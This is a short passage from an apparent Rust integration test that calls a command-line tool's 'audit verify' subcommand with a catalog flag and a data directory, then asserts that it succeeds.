        "audit",
        "verify",
        "--catalog",
        "--data-dir",
        app.data.to_str().unwrap(),
    ]);
    assert!(out.status.success());
}
